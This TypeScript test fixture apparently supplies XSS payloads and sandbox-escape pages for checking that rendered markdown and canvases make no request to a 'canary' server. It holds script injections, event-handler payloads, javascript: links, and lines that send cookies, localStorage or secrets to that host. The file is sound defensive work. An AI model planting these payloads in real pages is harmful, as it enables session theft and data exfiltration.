/**
 * Content that tries to run a script or to send a request when it is displayed. `canary` is the
 * origin of a server that must get no request. A script that runs calls `alert`.
 */

/** Markdown that a model, a user or a document may write, by the attack. */
export function hostileMarkdown(canary: string): Record<string, string> {
  return {
    "script element": `<script>alert(1);fetch("${canary}/script")</script>`,
    "script from elsewhere": `<script src="${canary}/script.js"></script>`,
    "image with an error handler": `<img src="${canary}/x" onerror="alert(1)">`,
    "svg with a load handler": `<svg onload="alert(1)"><script>alert(2)</script></svg>`,
    "svg use": `<svg><use href="${canary}/sprite.svg#a"></use></svg>`,
    "svg image": `<svg><image href="${canary}/a.png" width="9" height="9"></image></svg>`,
    "math with a link": `<math><maction xlink:href="javascript:alert(1)">x</maction></math>`,
    "details with a toggle handler": `<details open ontoggle="alert(1)"><summary>a</summary></details>`,
    "focused input": `<input autofocus onfocus="alert(1)">`,
    "video with an error handler": `<video src="${canary}/v.mp4" onerror="alert(1)" autoplay></video>`,
    "audio source": `<audio controls autoplay><source src="${canary}/a.mp3"></audio>`,
    "frame of a script": `<iframe src="javascript:alert(1)"></iframe>`,
    "frame with a document": `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
    "frame from elsewhere": `<iframe src="${canary}/frame"></iframe>`,
    object: `<object data="${canary}/object"></object>`,
    embed: `<embed src="${canary}/embed">`,
    "base address": `<base href="${canary}/"><img src="relative.png">`,
    "refresh to elsewhere": `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
    stylesheet: `<link rel="stylesheet" href="${canary}/style.css">`,
    "preload and prefetch": `<link rel="preload" as="image" href="${canary}/p"><link rel="prefetch" href="${canary}/q">`,
    "style element": `<style>@import "${canary}/i.css"; body { background: url(${canary}/b.png) }</style>`,
    "style attribute": `<p style="background:url(${canary}/s.png)">styled</p>`,
    "body handler": `<body onload="alert(1)" onpageshow="alert(2)">`,
    "form that submits": `<form action="${canary}/form" id="f"><button autofocus onfocus="f.submit()">x</button></form>`,
    "template with a script": `<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
    "markdown image": `![picture](${canary}/image.png "title")`,
    "markdown image by reference": `![picture][ref]\n\n[ref]: ${canary}/reference.png`,
    "markdown image with data in its address": `![secret](${canary}/collect?secret=password)`,
    "markdown link to a script": `[click](javascript:alert(1)) [again](JaVaScRiPt:alert%281%29)`,
    "markdown link that breaks out": `[a](https://example.org/"onmouseover="alert(1)) <https://example.org/"><img/src=x/onerror=alert(1)>>`,
    "link to data": `[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
    "code that closes its block": "```html\n</code></pre><script>alert(1)</script>\n```",
    "table with markup": `| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <img src="${canary}/cell.png"> |`,
    "heading with markup": `# <img src=x onerror=alert(1)> heading\n\n> <script>alert(1)</script>`,
    "escaped twice": `&lt;img src=x onerror=alert(1)&gt; &amp;lt;script&amp;gt;alert(1)`,
    "broken elements": `<img src="x\` \`><script>alert(1)</script>"\` \`>\n<a <!-- --> <b onclick=alert(1)//`,
  };
}

/** Pages that try to leave their canvas, by the attack. Each is a whole HTML canvas. */
export function canvasAttempts(canary: string): Record<string, string> {
  const script = (code: string) => `<p>canvas</p><script>try { ${code} } catch {}</script>`;
  const report = (what: string) => `fetch("${canary}/leak?" + encodeURIComponent(${what}))`;
  return {
    "read cookies": script(
      `if (document.cookie !== undefined) ${report("document.cookie")}`,
    ),
    "read the local storage": script(report("JSON.stringify(localStorage)")),
    "open a database": script(
      `indexedDB.open("a").onsuccess = () => ${report("'database'")}`,
    ),
    "read its parent": script(report("parent.document.title + location.href")),
    "message its parent": script(`parent.postMessage("${canary}", "*"); alert(1)`),
    fetch: script(`fetch("${canary}/fetch", { mode: "no-cors" })`),
    XMLHttpRequest: script(
      `const x = new XMLHttpRequest(); x.open("GET", "${canary}/xhr"); x.send()`,
    ),
    "send a beacon": script(`navigator.sendBeacon("${canary}/beacon", "data")`),
    "open an event stream": script(`new EventSource("${canary}/events")`),
    "open a web socket": script(`new WebSocket("${canary.replace("http", "ws")}/socket")`),
    "load a picture": script(`new Image().src = "${canary}/picture"`),
    "submit a form": `<form action="${canary}/form" id="f"></form><script>f.submit()</script>`,
    "navigate the top page": script(`top.location = "${canary}/top"`),
    "open a window": script(`window.open("${canary}/window")`),
    "start a worker": script(
      `new Worker(URL.createObjectURL(new Blob(["fetch('${canary}/worker')"])))`,
    ),
    "import a module": `<script type="module">import "${canary}/module.js"</script>`,
  };
}
